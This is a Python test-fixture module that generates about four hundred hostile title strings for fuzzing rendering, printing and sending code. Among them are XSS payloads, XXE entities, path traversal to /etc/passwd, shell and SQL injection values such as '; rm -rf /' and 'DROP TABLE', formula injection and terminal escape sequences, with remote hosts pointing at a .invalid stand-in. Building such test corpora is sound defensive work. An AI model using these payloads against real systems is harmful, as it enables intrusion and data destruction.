"""Titles that mean harm: four hundred texts for everything that draws, prints or sends titles.

``TITLES`` holds each as the store may give it: text that JSON could carry, lone surrogates
included. ``STORABLE`` leaves out what a database refuses (the character 0 and lone surrogates).
"""

# ruff: noqa: RUF001 - letters that look like others are the point

from __future__ import annotations

import zlib
from collections.abc import Iterator
from itertools import product

MARK = "wbhostile"
"""Stands in every text that tries to run something; nothing may ever run or fetch it."""

_SCRIPT = f"alert('{MARK}')"
_ELSEWHERE = f"http://{MARK}.invalid/x"

_ELEMENTS = (
    f"<script>{_SCRIPT}</script>",
    f"<script src={_ELSEWHERE}></script>",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<image href='{_ELSEWHERE}'/>",
    "<image xlink:href='file:///etc/passwd'/>",
    f"<use href='{_ELSEWHERE}#a'/>",
    f"<iframe src='javascript:{_SCRIPT}'></iframe>",
    f"<a href='javascript:{_SCRIPT}'>x</a>",
    f"<foreignObject><body onload={_SCRIPT}></foreignObject>",
    f"<style>@import '{_ELSEWHERE}';</style>",
    f"<style>*{{background:url({_ELSEWHERE})}}</style>",
    f"<link rel=stylesheet href={_ELSEWHERE}>",
    f"<base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<form action={_ELSEWHERE}><input autofocus onfocus={_SCRIPT}>",
    f"<animate attributeName=href values='javascript:{_SCRIPT}'/>",
    f"<set attributeName=onmouseover to={_SCRIPT}>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<math><mi xlink:href='javascript:{_SCRIPT}'>x",
    f"<template><img src=x onerror={_SCRIPT}></template>",
    f"<h-entry class='u-url' href={_ELSEWHERE}>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_ELSEWHERE}'>]>&e;",
)
_ENDS = ("", "</title>", "</text></svg>", '">', "'>", "-->", "]]>", "</script>", "\\u003c/script>")
"""What may close the place that the text stands in, before the element."""

_ATTRIBUTES = (
    f'" onload="{_SCRIPT}',
    f"' onload='{_SCRIPT}",
    f"` onload={_SCRIPT}",
    f'" style="background:url({_ELSEWHERE})',
    f'x" xlink:href="{_ELSEWHERE}',
    f"javascript:{_SCRIPT}",
    f"data:text/html,<script>{_SCRIPT}</script>",
    "url(#a);fill:url(file:///etc/passwd)",
    "/etc/passwd",
    "../../../../etc/passwd",
)
_ENTITIES = (
    "&", "&amp;", "&lt;b&gt;", "&#0;", "&#x0;", "&#xD800;", "&#xFFFF;", "&nbsp;", "&unknown;",
    "&lt;script&gt;", "&amp;lt;", "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>", "<!-- -->",
    "--><!--", "<", ">", '"', "'", "<>", "</", "a<b>c</b>d", "%3Cscript%3E", "\\x3cscript\\x3e",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "%s%s%n", "{0.__class__}", "$(id)", "`id`",
    "; rm -rf /", "| cat /etc/passwd", "' OR 1=1 --", "'; DROP TABLE plays; --", "\\", "\\\\",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://x")', "\t=1+1", "null", "undefined",
    "NaN", "true", "0", "-1", "1e309", "[object Object]", "__proto__", "constructor",
)  # fmt: skip
_LINES = (
    "one\r\ntwo", "one\ntwo", "one\rtwo", "one\u2028two", "one\u2029two", "one\x85two",
    "BEGIN:VEVENT\r\nSUMMARY:x", "x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "---\ntitle: x\n---",
    "\tone\ttwo", " one ", "", " ", "\u00a0", "\u3000", "\u200b",
)  # fmt: skip
_TERMINAL = (
    "\x1b[2J", "\x1b]0;x\x07", "\x1b]8;;http://x\x1b\\x", "\x9b31m", "\x07\x07", "a\x08b",
    "\x7f", "[bold red]x[/]", "[link=http://x]y",
)  # fmt: skip
_CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), 0x80, 0x9F))
_BIDI = (
    "\u202egnp.exe", "abc\u202edef\u202cghi", "\u202aabc", "\u2066abc", "\u2067abc\u2069\u2069",
    "\u202e" * 50 + "x", "\u061cabc", "\u200fabc", "מלך <b>", "שלום (2)!", "عربي English عربي",
    "(עברית)", "הארץ 2: \u202eחזרה", "فيلم \u200eS1 E1\u200e",
)  # fmt: skip
_MARKS = (
    "Z\u0351\u036b\u0343\u036a" * 12,
    "a" + "\u0301" * 500,
    "\u0301" * 40,
    "e\u0301\u0323" * 20,
    "\u20dd\u20de",
    "\u0e4d" * 60,
    "ก็็็็็็็็็็็็็็็็็็็็",
    "\u1ab0" * 30 + "x",
    "\u034f" * 100,
)
_EMOJI = (
    "👨‍👩‍👧‍👦", "👩🏽‍🚀🏳️‍🌈🏴‍☠️", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇩🇪🇯🇵🇺", "1️⃣#️⃣", "🎬" * 80, "👍🏿👍🏻",
    "\u200d\u200d", "\ufe0f\ufe0e", "😀\ufe0e", "❤️‍🔥", "🫠🫨",
)  # fmt: skip
_SCRIPTS = (
    "君の名は。", "千と千尋の神隠し", "기생충", "霸王别姬", "𠮷野家", "ｶﾞｷﾞｸﾞ",
    "天空の城ラピュタ" * 30,
    "नमस्ते दुनिया", "ความรักครั้งสุดท้าย", "Анна Каренина", "Ζορμπάς", "வணக்கம்", "မြန်မာ", "ភាសាខ្មែរ",
    "አማርኛ", "საქართველო", "ⴰⵎⴰⵣⵉⵖ", "𐌰𐌱𐌲", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "ﷺ" * 40, "Łódź ıİß ﬃ", "\u1100\u1161\u11a8",
)  # fmt: skip
_ODD = (
    "\ufeffx", "\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\U0010ffff", "\ue000", "\U000f0000",
    "\ufff9a\ufffab\ufffb", "\u00ad" * 50, "\u2060x", "\u180e", "ſcript", "＜script＞",
)  # fmt: skip
_LONG = (
    "W" * 300, "i" * 300, "word " * 60, "a-" * 150, "x" * 65_536, "<" * 65_536, "長" * 21_845,
    "🎬" * 16_384, "a\u0301" * 20_000, "ש" * 32_768, "\u202e" * 20_000,
    "The Assassination of Jesse James by the Coward Robert Ford and What Came of It " * 4,
)  # fmt: skip
_UNSTORABLE = (
    "\ud800", "\udfff", "a\ud83d", "\udcffb", "\udc80" * 20, "\ud800<b>", "a\x00b", "\x00",
    "\x00<script>", "\udbff\udbff",
)  # fmt: skip


def _markup() -> Iterator[str]:
    for end, element in product(_ENDS, _ELEMENTS):
        yield f"{end}{element}"


_REST = (
    *_ATTRIBUTES, *_ENTITIES, *_TEMPLATES, *_LINES, *_TERMINAL, *_CONTROLS, *_BIDI, *_MARKS,
    *_EMOJI, *_SCRIPTS, *_ODD, *_LONG,
)  # fmt: skip
STORABLE: tuple[str, ...] = tuple(dict.fromkeys((*_REST, *_markup())))
TITLES: tuple[str, ...] = (*STORABLE, *_UNSTORABLE)


def label(text: str) -> str:
    """A short name of a payload, of plain letters, for the names of tests."""
    head = "".join(c if c.isascii() and c.isalnum() else f"-{ord(c):x}-" for c in text[:6])
    return f"{head}.{len(text)}.{zlib.crc32(text.encode('utf-8', 'surrogatepass')):x}"
